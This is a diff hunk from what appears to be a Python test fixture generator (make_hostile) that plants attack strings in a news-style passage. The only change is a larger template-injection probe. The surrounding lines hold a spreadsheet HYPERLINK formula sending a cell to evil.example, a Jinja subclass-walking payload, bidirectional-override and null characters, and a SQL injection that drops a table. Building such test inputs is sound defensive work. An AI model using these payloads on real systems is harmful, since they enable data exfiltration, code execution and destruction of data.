@@ -309,7 +309,7 @@ def make_hostile(folder: Path) -> Path:
         =HYPERLINK("https://evil.example/?leak="&A1,"The fishermen") were told to move their boats before the
         storm arrived on Friday.
 
-        {{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %} boats lay at the quay, \u202eand nobody
+        {{ 7777*7777 }} {% for x in ().__class__.__base__.__subclasses__() %} boats lay at the quay, \u202eand nobody
         counted them\u202c that night.
 
         The ferry sailed on \x00time with ' or 1=1; drop table articles; -- painted on its side, witnesses said.
